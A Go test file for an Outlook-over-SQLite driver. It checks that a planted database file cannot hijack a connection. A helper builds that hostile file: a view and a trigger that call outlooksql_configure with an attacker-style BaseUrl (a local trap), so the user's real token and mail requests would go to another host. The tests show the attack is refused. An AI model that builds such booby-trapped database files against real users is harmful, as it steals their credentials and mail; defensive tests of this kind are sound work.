package driver_test

import (
	"context"
	"database/sql"
	"path/filepath"
	"strings"
	"testing"

	"github.com/outlooksql/outlooksql/internal/fakegraph"
)

// hostileFile writes a database file whose view and trigger call
// outlooksql_configure with a BaseUrl of a loopback listener
// that counts the connections it receives, and a view over messages. It
// returns the file's path and the listener.
func hostileFile(t *testing.T, tokenURL, tokenFile string) (string, *fakegraph.Trap) {
	t.Helper()
	trap, err := fakegraph.NewTrap()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { trap.Close() })
	evil := trap.URL()
	// Only BaseUrl is the attacker's: the rest is the victim's own sign-in
	// (for a public client nothing of it is secret), so the token is real.
	conn := "BaseUrl=" + evil + "/v1.0;TokenUrl=" + tokenURL + ";ClientId=" + fakegraph.ClientID +
		";ClientSecret=" + fakegraph.ClientSecret + ";RefreshTokenFilePath={" + tokenFile + "}"
	call := "outlooksql_configure('" + conn + "')"
	path := filepath.Join(t.TempDir(), "hostile.db")
	db, err := sql.Open("sqlite3", path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	for _, s := range []string{
		"CREATE TABLE notes(x)",
		"CREATE VIEW report AS SELECT " + call + " AS c, (SELECT count(*) FROM messages) AS n",
		"CREATE TRIGGER grab AFTER INSERT ON notes BEGIN SELECT " + call + "; SELECT count(*) FROM messages; END",
		"CREATE VIEW everything AS SELECT count(*) AS n FROM messages",
	} {
		if _, err := db.Exec(s); err != nil {
			t.Fatalf("%s: %v", s, err)
		}
	}
	return path, trap
}

// TestHostileFileThroughDriver attaches a hostile database file to a
// driver connection: its view and trigger may not call
// outlooksql_configure, nothing reaches the host the file names, the
// connection keeps its own configuration; a view over messages stored in
// the file may not read mail on a connection that may write, and does on a
// ReadOnly=True one.
func TestHostileFileThroughDriver(t *testing.T) {
	e := newEnv(t, small(), nil)
	path, trap := hostileFile(t, e.Server.TokenURL(), e.TokenFile)
	ctx := context.Background()
	if _, err := e.conn.ExecContext(ctx, "ATTACH DATABASE ? AS h", path); err != nil {
		t.Fatal(err)
	}
	// SQLite names the first unsafe thing it meets: the mail table
	// (DIRECTONLY on a connection that may write) or the function.
	for _, q := range []struct{ sql, err string }{
		{"SELECT * FROM h.report", `unsafe use of virtual table "messages"`},
		{"INSERT INTO h.notes VALUES (1)", "unsafe use of outlooksql_configure()"},
		{"SELECT n FROM h.everything", `unsafe use of virtual table "messages"`},
	} {
		_, err := e.conn.ExecContext(ctx, q.sql)
		if err == nil || err.Error() != q.err {
			t.Errorf("%s: error %v, want %s", q.sql, err, q.err)
		}
	}
	want := [][]string{{"1200"}} // the signed-in user's messages
	if got := e.query(t, "SELECT count(*) FROM messages"); !equalRows(got, want) {
		t.Errorf("count after the attempts: %v, want %v", got, want)
	}
	// On a read-only connection the file's view reads mail; the function
	// stays refused.
	ro := newEnv(t, small(), []string{"ReadOnly=True"})
	if _, err := ro.conn.ExecContext(ctx, "ATTACH DATABASE ? AS h", path); err != nil {
		t.Fatal(err)
	}
	if got := ro.query(t, "SELECT n FROM h.everything"); !equalRows(got, want) {
		t.Errorf("view over messages in the file, ReadOnly=True: %v, want %v", got, want)
	}
	if _, err := ro.conn.ExecContext(ctx, "SELECT * FROM h.report"); err == nil || err.Error() != "unsafe use of outlooksql_configure()" {
		t.Errorf("ReadOnly=True: SELECT * FROM h.report: error %v, want unsafe use of outlooksql_configure()", err)
	}
	if n := trap.Contacted(); n != 0 {
		t.Errorf("the file's host was contacted %d times", n)
	}
}

// TestHostileFileInPlainSQLite opens a hostile file with the plain sqlite3
// driver in a process where the outlook driver is registered: the function
// exists on that connection too (an automatic extension), and must refuse
// the file's view and trigger the same way.
func TestHostileFileInPlainSQLite(t *testing.T) {
	e := newEnv(t, small(), nil) // registers the function process-wide
	path, trap := hostileFile(t, e.Server.TokenURL(), e.TokenFile)
	db, err := sql.Open("sqlite3", path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	for _, q := range []struct{ sql, err string }{
		{"SELECT * FROM report", `unsafe use of virtual table "messages"`},
		{"INSERT INTO notes VALUES (1)", "unsafe use of outlooksql_configure()"},
	} {
		_, err := db.Exec(q.sql)
		if err == nil || err.Error() != q.err {
			t.Errorf("%s: error %v, want %s", q.sql, err, q.err)
		}
	}
	if n := trap.Contacted(); n != 0 {
		t.Errorf("the file's host was contacted %d times", n)
	}
}

func equalRows(a, b [][]string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if strings.Join(a[i], "\x00") != strings.Join(b[i], "\x00") {
			return false
		}
	}
	return true
}
